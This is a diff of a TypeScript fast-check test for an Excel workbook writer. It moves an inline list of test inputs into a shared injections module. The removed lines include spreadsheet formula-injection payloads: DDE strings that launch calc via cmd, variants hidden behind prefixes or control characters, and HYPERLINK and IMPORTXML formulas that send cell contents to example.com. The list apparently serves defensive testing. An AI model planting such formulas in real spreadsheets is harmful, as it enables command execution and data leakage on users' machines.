@@ -2,39 +2,8 @@
 import fc from "fast-check";
 import { excelWorkbook } from "../../../src/workbooks/excel";
 import { startExcel } from "../../excel-host";
+import { injections as strings } from "../support/injections";
 import { edit, held, mark, ok, sheetName, small } from "./support";
-
-const strings = [
-  "=1+1",
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://example.com?x="&A1,"点我")',
-  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
-  "+1+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "＝1+1",
-  "＋1+1",
-  "－1+1",
-  "＠SUM(A1)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "\0=1+1",
-  "'=1+1",
-  "''",
-  ";=1+1",
-  "5",
-  "91.02%",
-  "1/2",
-  "2022-12-20",
-  "2022年12月20日",
-  "1e3",
-  "1,000",
-  "TRUE",
-  "#N/A!",
-  "优",
-  "得分（90分）",
-];
 
 async function writeText(text: string, numberFormat: string): Promise<void> {
   const host = startExcel(small());
